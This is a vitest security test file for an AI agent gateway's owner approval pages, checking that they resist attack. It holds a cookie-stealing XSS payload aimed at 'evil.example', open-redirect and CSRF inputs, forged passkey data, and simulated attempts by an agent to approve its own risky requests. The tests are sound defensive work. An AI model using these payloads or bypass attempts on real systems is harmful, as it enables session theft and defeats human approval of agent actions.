/** The owner's pages, as somebody attacks them who can send whatever they like. */
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { apiKey, ownerKey, startHttpHouse, type HttpHouse } from './http-harness.ts';

const rules = 'rules:\n  - {id: ask-me, intent: memory.write, decide: approve}\n';
const html = { accept: 'text/html,application/xhtml+xml,*/*;q=0.8' };
const evil = '<script>fetch("//evil.example/"+document.cookie)</script>';

let laterMs = 0;
let http: HttpHouse;
beforeAll(async () => {
  http = await startHttpHouse(rules, { clock: { now: () => Date.now() + laterMs } });
});
afterAll(() => http.stop());

interface Fields {
  readonly [name: string]: string;
}

const ask = async (text: string) => {
  const { body } = await http.call({ intent: 'memory.write', inputs: { text } });
  const { id } = body['approval'] as { id: string };
  return { id, jobId: String(body['job_id']) };
};
const look = (path: string, headers: Record<string, string> = {}) =>
  http.get(path, { key: null, headers: { ...html, ...headers } });
/** A form as a browser sends it from a page of the gateway, unless `headers` say otherwise. */
const send = (path: string, fields: Fields, headers: Record<string, string | undefined> = {}) => {
  const all = {
    ...html,
    'content-type': 'application/x-www-form-urlencoded',
    origin: http.url,
    'sec-fetch-site': 'same-origin',
    ...headers,
  };
  const given = Object.entries(all).filter(([, value]) => value !== undefined);
  return http.send('POST', path, {
    key: null,
    headers: Object.fromEntries(given),
    body: new URLSearchParams(fields).toString(),
  });
};
const cookieOf = (setCookie: readonly string[] | undefined) =>
  setCookie?.[0]?.split(';', 1).join() ?? '';
async function signIn(more: { cookie?: string } = {}) {
  const answer = await send(
    '/owner/sign-in',
    { owner_key: ownerKey, next: '/owner/approvals' },
    more,
  );
  expect(answer.status).toBe(303);
  const cookie = cookieOf(answer.headers['set-cookie']);
  const { text } = await look('/owner/approvals', { cookie });
  return { cookie, formToken: /name="form_token"\s+value="([^"]+)"/.exec(text)?.[1] ?? '' };
}
const statusOf = async (id: string) =>
  (await http.asOwner('GET', `/owner/approvals/${id}`)).body['status'];
const memories = async () => {
  const { body } = await http.call({ intent: 'memory.list' });
  return JSON.stringify(body['result']);
};

describe('a link to a request', () => {
  it('shows nothing of it, nor whether it exists, to who is not signed in', async () => {
    const { id } = await ask('the secret plan');
    const there = await look(`/owner/approvals/${id}`);
    const none = await look(`/owner/approvals/${id.slice(0, -1)}x`);
    for (const { status, text } of [there, none]) {
      expect(status).toBe(401);
      expect(text).toContain('Sign in');
      expect(text).not.toMatch(/secret plan|memory\.write|ask-me/);
    }
    expect(there.text.replaceAll(id, '')).toBe(none.text.replaceAll(`${id.slice(0, -1)}x`, ''));
  });

  it('approval link prefetched: opened by whomever, however, it decides nothing', async () => {
    const { id } = await ask('prefetched');
    const { cookie } = await signIn();
    for (const headers of [
      {},
      { cookie },
      { cookie, 'sec-purpose': 'prefetch;prerender', 'sec-fetch-site': 'cross-site' },
    ]) {
      for (const method of ['GET', 'HEAD', 'OPTIONS']) {
        for (const query of ['', '?action=approve', '?decision=approve']) {
          await http.send(method, `/owner/approvals/${id}${query}`, {
            key: null,
            headers: { ...html, ...headers },
          });
          await http.send(method, `/owner/approvals/${id}/decision${query}`, {
            key: null,
            headers: { ...html, ...headers },
          });
        }
      }
    }
    expect(await statusOf(id)).toBe('waiting');
    expect(await memories()).not.toContain('prefetched');
  });

  it('may be framed by nobody, loads nothing from anywhere, and is kept by nobody', async () => {
    const { cookie } = await signIn();
    const { headers } = await look('/owner/approvals', { cookie });
    expect(headers).toMatchObject({ 'x-frame-options': 'DENY', 'cache-control': 'no-store' });
    expect(headers['content-security-policy']).toMatch(/^default-src 'none'; /);
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['content-security-policy']).not.toContain('unsafe');
  });
});

describe('agent calls approve API', () => {
  it('with its own key, on every call and page of the owner: 403', async () => {
    const { id } = await ask('by the agent');
    const { cookie, formToken } = await signIn();
    const headers = { ...html, cookie, origin: http.url, 'sec-fetch-site': 'same-origin' };
    const form = { 'content-type': 'application/x-www-form-urlencoded' };
    const fields = `action=approve&form_token=${formToken}`;
    for (const [method, path, body] of [
      ['GET', '/owner/approvals'],
      ['GET', `/owner/approvals/${id}`],
      ['POST', `/owner/approvals/${id}/decide`, '{"decision":"approve"}'],
      ['POST', `/owner/approvals/${id}/decision`, fields],
      ['GET', '/owner/sign-in'],
      ['POST', '/owner/sign-in', `owner_key=${ownerKey}`],
      ['GET', '/owner/passkeys'],
      ['POST', '/owner/passkeys', fields],
      ['POST', '/owner/passkeys/remove', fields],
      ['POST', '/owner/sign-out', fields],
      ['GET', `/owner/jobs/job_1`],
    ] as const) {
      const sent = path.endsWith('decide') ? headers : { ...headers, ...(body && form) };
      const answer = await http.send(method, path, { key: apiKey, headers: sent, body });
      expect([path, answer.status, answer.body['error']]).toMatchObject([
        path,
        403,
        { code: 'owner_only' },
      ]);
    }
    expect(await statusOf(id)).toBe('waiting');
  });

  it('by whatever it puts into a call', async () => {
    const { id, jobId } = await ask('by a call');
    for (const more of [
      { confirm_dangerous: true },
      { dry_run: false },
      { confirm_token: id },
      { confirm_token: `cfm_${id}` },
      { idempotency_key: id },
      { inputs: { text: 'by a call', confirm_dangerous: true } },
    ]) {
      const request = { intent: 'memory.write', inputs: { text: 'by a call' }, ...more };
      const { body } = await http.call(request);
      expect(['needs_approval', 'error']).toContain(body['status']);
    }
    for (const intent of ['approvals.approve', 'owner.approve', 'jobs.resolve']) {
      const { body } = await http.call({ intent, inputs: { id, job_id: jobId } });
      expect(body['error']).toMatchObject({ code: 'unknown_intent' });
    }
    const resolved = await http.post(`/owner/jobs/${jobId}/resolve`, { outcome: 'happened' });
    expect(resolved.status).toBe(403);
    expect(await statusOf(id)).toBe('waiting');
    expect(await memories()).not.toContain('by a call');
  });

  it('signs in with its own key: 403, and no session', async () => {
    const answer = await send('/owner/sign-in', { owner_key: apiKey });
    expect(answer.status).toBe(403);
    expect(answer.headers['set-cookie']).toBeUndefined();
    expect(answer.text).not.toContain(apiKey);
  });
});

describe('CSRF from a foreign origin', () => {
  it.each([
    ['a foreign origin', { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' }],
    ['a page of another port', { origin: 'http://127.0.0.1:1', 'sec-fetch-site': 'same-site' }],
    ['an origin of none', { origin: 'null', 'sec-fetch-site': 'cross-site' }],
    ['a relation that is foreign, and our origin', { 'sec-fetch-site': 'cross-site' }],
    ['a relation of the user', { origin: undefined, 'sec-fetch-site': 'none' }],
    ['no origin and no relation', { origin: undefined, 'sec-fetch-site': undefined }],
  ])('is refused with the cookie and even the token of the form: %s', async (_, headers) => {
    const { id } = await ask(`csrf ${_}`);
    const { cookie, formToken } = await signIn();
    const fields = { form_token: formToken, action: 'approve' };
    const answer = await send(`/owner/approvals/${id}/decision`, fields, { cookie, ...headers });
    expect(answer.status).toBe(403);
    expect(await statusOf(id)).toBe('waiting');
  });

  it.each(['', 'x', 'a'.repeat(43)])('is refused with the form token %j', async (token) => {
    const { id } = await ask(`token ${token}`);
    const { cookie } = await signIn();
    const fields = { form_token: token, action: 'approve' };
    const answer = await send(`/owner/approvals/${id}/decision`, fields, { cookie });
    expect(answer.status).toBe(403);
    expect(await statusOf(id)).toBe('waiting');
  });

  it('is refused with the form token of another session', async () => {
    const { id } = await ask('another session');
    const [mine, other] = [await signIn(), await signIn()];
    const fields = { form_token: other.formToken, action: 'approve' };
    const { status } = await send(`/owner/approvals/${id}/decision`, fields, {
      cookie: mine.cookie,
    });
    expect(status).toBe(403);
    expect(await statusOf(id)).toBe('waiting');
  });

  it('is refused as JSON, as text and as multipart', async () => {
    const { id } = await ask('other types');
    const { cookie, formToken } = await signIn();
    const headers = { ...html, cookie, origin: http.url };
    for (const type of ['application/json', 'text/plain', 'multipart/form-data; boundary=x']) {
      const body = JSON.stringify({ form_token: formToken, action: 'approve' });
      const path = `/owner/approvals/${id}/decision`;
      const sent = { key: null, body, headers: { ...headers, 'content-type': type } };
      expect((await http.send('POST', path, sent)).status).toBe(415);
    }
    expect(await statusOf(id)).toBe('waiting');
  });

  it('finds no other call of the gateway that takes a form', async () => {
    for (const path of ['/orchestrate', '/owner/keys', '/owner/approvals/apr_1/decide']) {
      const answer = await send(path, { intent: 'system.ping' });
      expect([path, answer.status]).toEqual([path, 401]);
    }
  });
});

describe('session fixation', () => {
  it('gains nothing: a sign-in makes a token of its own, and ends the one before', async () => {
    const planted = 'tutti_owner=a-token-that-somebody-planted';
    const first = await signIn({ cookie: planted });
    expect(first.cookie).not.toBe(planted);
    expect((await look('/owner/approvals', { cookie: planted })).status).toBe(401);
    const second = await signIn({ cookie: first.cookie });
    expect(second.cookie).not.toBe(first.cookie);
    expect((await look('/owner/approvals', { cookie: first.cookie })).status).toBe(401);
    expect((await look('/owner/approvals', { cookie: second.cookie })).status).toBe(200);
  });

  it('the cookie is kept from scripts, other sites and everything but the pages', async () => {
    const { headers } = await send('/owner/sign-in', { owner_key: ownerKey });
    const attributes = headers['set-cookie']?.[0]?.split('; ').slice(1);
    expect(attributes).toEqual(['Path=/owner', 'Max-Age=28800', 'HttpOnly', 'SameSite=Strict']);
  });

  it('a signed-out session is over', async () => {
    const { cookie, formToken } = await signIn();
    const out = await send('/owner/sign-out', { form_token: formToken }, { cookie });
    expect(out.headers['set-cookie']?.[0]).toContain('Max-Age=0');
    expect((await look('/owner/approvals', { cookie })).status).toBe(401);
  });

  it('leads nowhere but to the pages of the owner', async () => {
    for (const next of [
      'https://evil.example',
      '//evil.example',
      '/owner/../docs',
      '/\\evil',
      'x',
    ]) {
      const { headers } = await send('/owner/sign-in', { owner_key: ownerKey, next });
      expect(headers.location).toBe('/owner/approvals');
    }
  });
});

describe('XSS in inputs', () => {
  it('is shown to the letter, and is never markup', async () => {
    const { id } = await ask(`${evil}"'&\u001b[31m\u202e`);
    const { cookie } = await signIn();
    for (const path of [`/owner/approvals/${id}`, '/owner/approvals']) {
      const { text, status } = await look(path, { cookie });
      expect(status).toBe(200);
      expect(text).not.toContain('<script>fetch');
      expect(text).not.toContain('\u202e');
      expect(text).not.toContain('\u001b');
      expect(text).toContain('&lt;script&gt;fetch(&quot;//evil.example/&quot;+document.cookie)');
      expect(text).toContain('>\\u202e</mark>');
    }
  });

  it('does not work by the address either', async () => {
    const { cookie } = await signIn();
    for (const path of [
      `/owner/approvals/${encodeURIComponent(evil)}`,
      `/owner/sign-in?next=${encodeURIComponent(evil)}`,
    ]) {
      for (const headers of [{}, { cookie }]) {
        expect((await look(path, headers)).text).not.toContain('<script>fetch');
      }
    }
  });
});

describe('a decision on the page', () => {
  const press = async (id: string, action: string, more: Fields = {}) => {
    const { cookie, formToken } = await signIn();
    const fields = { form_token: formToken, action, ...more };
    const answer = await send(`/owner/approvals/${id}/decision`, fields, { cookie });
    return { answer, cookie };
  };

  it('approves, and the job runs by itself', async () => {
    const { id, jobId } = await ask('approved on the page');
    const { answer, cookie } = await press(id, 'approve');
    expect([answer.status, answer.headers.location]).toEqual([303, `/owner/approvals/${id}`]);
    const job = await http.get(`/jobs/${jobId}?wait_s=5`);
    expect(job.body).toMatchObject({ status: 'success' });
    const { text } = await look(`/owner/approvals/${id}`, { cookie });
    expect(text).toContain('You approved it');
    expect(text).not.toContain('>Approve once<');
  });

  it('denies', async () => {
    const { id, jobId } = await ask('denied on the page');
    await press(id, 'deny');
    expect((await http.get(`/jobs/${jobId}`)).body).toMatchObject({ status: 'denied' });
  });

  it('remembers until a day', async () => {
    const { id } = await ask('remembered on the page');
    const day = new Date(Date.now() + 3 * 86_400_000).toISOString().slice(0, 10);
    await press(id, 'remember', { remember_until: day });
    const { body } = await http.asOwner('GET', `/owner/approvals/${id}`);
    expect(body).toMatchObject({ status: 'approved', remembered_until: `${day}T23:59:59.000Z` });
  });

  it.each([
    ['without an action', '', {}],
    ['with an action that is none', 'sudo', {}],
    ['to remember until no day', 'remember', {}],
    ['to remember until yesterday', 'remember', { remember_until: '2020-01-01' }],
  ])('%s decides nothing', async (_, action, more) => {
    const { id } = await ask(`bad form ${_}`);
    const { answer } = await press(id, action, more);
    expect(answer.status).toBe(400);
    expect(answer.headers['content-type']).toContain('text/html');
    expect(await statusOf(id)).toBe('waiting');
  });

  it('that comes second shows the first', async () => {
    const { id } = await ask('decided twice');
    await press(id, 'deny');
    const { answer, cookie } = await press(id, 'approve');
    expect(answer.status).toBe(303);
    expect((await look(`/owner/approvals/${id}`, { cookie })).text).toContain('You denied it');
  });

  it('without a session leads to the sign-in', async () => {
    const { id } = await ask('no session');
    const answer = await send(`/owner/approvals/${id}/decision`, { action: 'approve' });
    expect(answer.status).toBe(401);
    expect(await statusOf(id)).toBe('waiting');
  });
});

describe('a sign-in of some time ago', () => {
  const minuteMs = 60_000;

  it('approves nothing without a new proof, but denies', async () => {
    const { id } = await ask('some time ago');
    const { cookie, formToken } = await signIn();
    const path = `/owner/approvals/${id}`;
    laterMs += 5 * minuteMs;
    const day = new Date(Date.now() + 86_400_000).toISOString().slice(0, 10);
    for (const action of ['approve', 'remember']) {
      const fields = { form_token: formToken, action, remember_until: day };
      const answer = await send(`${path}/decision`, fields, { cookie });
      expect([answer.status, answer.headers.location]).toEqual([303, path]);
      expect(await statusOf(id)).toBe('waiting');
    }
    const { text } = await look(path, { cookie });
    expect(text).toContain('show once more that it is you');
    expect(text).not.toContain('value="approve"');
    await send(`${path}/decision`, { form_token: formToken, action: 'deny' }, { cookie });
    expect(await statusOf(id)).toBe('denied');
  });

  it('adds and removes no passkey', async () => {
    const { cookie, formToken } = await signIn();
    laterMs += 5 * minuteMs;
    const localhost = { cookie, host: `localhost:${http.port}` };
    expect((await look('/owner/passkeys', localhost)).text).not.toContain('Add a passkey');
    const fields = { form_token: formToken, passkey: '{}', id: 'x' };
    for (const path of ['/owner/passkeys', '/owner/passkeys/remove']) {
      const origin = `http://localhost:${http.port}`;
      expect((await send(path, fields, { ...localhost, origin })).status).toBe(403);
    }
  });

  it('is over after half an hour of rest', async () => {
    const { cookie } = await signIn();
    laterMs += 30 * minuteMs;
    expect((await look('/owner/approvals', { cookie })).status).toBe(401);
  });

  it('approval timeout: an open page decides nothing after a day', async () => {
    const { id, jobId } = await ask('a day later');
    laterMs += 24 * 60 * minuteMs;
    const { cookie, formToken } = await signIn();
    const fields = { form_token: formToken, action: 'approve' };
    const answer = await send(`/owner/approvals/${id}/decision`, fields, { cookie });
    expect(answer.status).toBe(303);
    const { text } = await look(`/owner/approvals/${id}`, { cookie });
    expect(text).toContain('Nobody decided in time');
    expect(text).not.toContain('value="approve"');
    expect((await http.get(`/jobs/${jobId}`)).body['status']).not.toBe('success');
    expect(await memories()).not.toContain('a day later');
  });
});

describe('a passkey that was not asked for', () => {
  const localhost = () => ({
    host: `localhost:${http.port}`,
    origin: `http://localhost:${http.port}`,
  });
  const clientData = (challenge: string) =>
    Buffer.from(
      JSON.stringify({ type: 'webauthn.get', challenge, origin: 'http://localhost' }),
    ).toString('base64url');
  const answerOf = (challenge: string) =>
    JSON.stringify({
      id: 'AAAA',
      rawId: 'AAAA',
      type: 'public-key',
      response: {
        clientDataJSON: clientData(challenge),
        authenticatorData: 'AAAA',
        signature: 'AAAA',
      },
    });

  it.each(['', 'null', '[]', '{}', '{"id":1}', 'x'.repeat(40_000), answerOf('AAAA')])(
    'signs nobody in: %.40s',
    async (passkey) => {
      const answer = await send('/owner/sign-in', { passkey }, localhost());
      expect(answer.status).toBe(401);
      expect(answer.headers['set-cookie']).toBeUndefined();
    },
  );

  it('cannot be added by who signed in', async () => {
    const { cookie, formToken } = await signIn();
    const fields = { form_token: formToken, passkey: answerOf('AAAA'), label: 'mine' };
    const answer = await send('/owner/passkeys', fields, { cookie, ...localhost() });
    expect(answer.status).toBe(400);
    const { text } = await look('/owner/passkeys', { cookie });
    expect(text).toContain('There is none yet');
  });

  it('does not count where browsers have none', async () => {
    expect((await send('/owner/sign-in', { passkey: answerOf('AAAA') })).status).toBe(401);
  });
});

describe('JSON for the owner key', () => {
  it('is given where a program asks, and to nobody without the key', async () => {
    const { id } = await ask('as JSON');
    const one = await http.asOwner('GET', `/owner/approvals/${id}`);
    expect(one.body).toMatchObject({ approval_id: id, inputs: { text: 'as JSON' } });
    const list = await http.asOwner('GET', '/owner/approvals?status=waiting&limit=1');
    expect(list.body).toMatchObject({ items: [{ status: 'waiting' }] });
    for (const path of ['/owner/approvals', `/owner/approvals/${id}`]) {
      expect((await http.get(path, { key: null })).status).toBe(401);
      expect((await http.get(path, { key: 'wrong', headers: html })).status).toBe(401);
    }
    expect((await http.asOwner('GET', '/owner/approvals/apr_none')).status).toBe(404);
  });

  it('is not given for a cookie', async () => {
    const { id } = await ask('by cookie');
    const { cookie } = await signIn();
    const headers = { cookie, accept: 'application/json' };
    const got = await http.get(`/owner/approvals/${id}`, { key: null, headers });
    expect(got.status).toBe(401);
    const decided = await http.send('POST', `/owner/approvals/${id}/decide`, {
      key: null,
      headers,
      body: { decision: 'approve' },
    });
    expect(decided.status).toBe(401);
    expect(await statusOf(id)).toBe('waiting');
  });
});

describe('login brute force', () => {
  let guessed: HttpHouse;
  beforeEach(async () => {
    guessed = await startHttpHouse(rules);
  });
  afterEach(() => guessed.stop());

  it('is stopped after ten guesses, and the right key is not told from a wrong one then', async () => {
    const guess = (key: string) =>
      guessed.send('POST', '/owner/sign-in', {
        key: null,
        headers: {
          ...html,
          'content-type': 'application/x-www-form-urlencoded',
          origin: guessed.url,
        },
        body: new URLSearchParams({ owner_key: key }).toString(),
      });
    const answers = await Promise.all(Array.from({ length: 50 }, (_, at) => guess(`guess-${at}`)));
    const statuses = answers.map(({ status }) => status);
    expect(statuses.filter((status) => status === 401)).toHaveLength(10);
    expect(statuses.filter((status) => status === 429)).toHaveLength(40);
    const right = await guess(ownerKey);
    expect(right.status).toBe(429);
    expect(right.headers['set-cookie']).toBeUndefined();
    // The command line still gets in.
    expect((await guessed.asOwner('GET', '/owner/approvals')).status).toBe(200);
  });
});
